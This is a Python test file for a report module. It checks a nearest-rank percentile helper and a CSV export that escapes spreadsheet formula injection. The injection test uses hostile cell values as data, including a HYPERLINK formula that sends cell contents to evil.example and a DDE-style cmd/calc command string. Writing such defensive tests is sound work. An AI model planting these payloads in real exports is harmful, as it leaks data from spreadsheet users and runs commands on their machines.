"""The evaluation report's pure parts: the percentile (nearest rank, always one of the
values) and the CSV export, whose cells no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from broker.reports.schemas import CSV_COLUMNS, CdoEvaluationReport, CdoEvaluationRow
from broker.reports.service import nearest_rank, to_csv

JAN = datetime(2027, 1, 1, tzinfo=UTC)
COUNTS = [name for name, field in CdoEvaluationRow.model_fields.items() if field.annotation is int]


def test_nearest_rank_picks_an_observed_value() -> None:
    values = [300, 100, 200, 500, 400]
    assert nearest_rank(values, 50) == 300
    assert nearest_rank(values, 90) == 500
    assert nearest_rank(values, 20) == 100
    assert nearest_rank(values, 100) == 500


def test_nearest_rank_of_an_even_count_takes_the_lower_middle() -> None:
    assert nearest_rank([40, 10, 30, 20], 50) == 20
    assert nearest_rank(list(range(1, 11)), 90) == 9
    assert nearest_rank(list(range(1, 12)), 90) == 10  # rank ceil(0.9 * 11) = 10


def test_nearest_rank_of_one_and_of_none() -> None:
    assert nearest_rank([7], 50) == nearest_rank([7], 90) == 7
    assert nearest_rank([], 50) is None


@pytest.mark.parametrize("percent", [0, -1, 101])
def test_nearest_rank_refuses_a_percent_outside_0_to_100(percent: float) -> None:
    with pytest.raises(ValueError, match="percent"):
        nearest_rank([1, 2], percent)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(name: str) -> None:
    row = CdoEvaluationRow.model_validate(
        {
            "organisation_id": "gz-x",
            "organisation_name": name,
            "level": "city",
            "appointment_id": "apt_1",
            "person_name": name,
            "title": "副局长",
            **dict.fromkeys(COUNTS, 0),
            "decision_seconds_median": None,
            "decision_seconds_p90": None,
            "problem_answer_seconds_median": None,
        }
    )
    report = CdoEvaluationReport.model_validate(
        {"from": JAN, "to": JAN, "level": None, "group_by": "cdo", "rows": [row]}
    )
    [_, line] = list(csv.reader(io.StringIO(to_csv(report).removeprefix("\ufeff"))))
    cells = dict(zip(CSV_COLUMNS, line, strict=True))
    assert cells["organisation_name"] == cells["person_name"] == "'" + name
    assert (cells["title"], cells["decided"], cells["decision_seconds_median"]) == (
        "副局长",
        "0",
        "",
    )
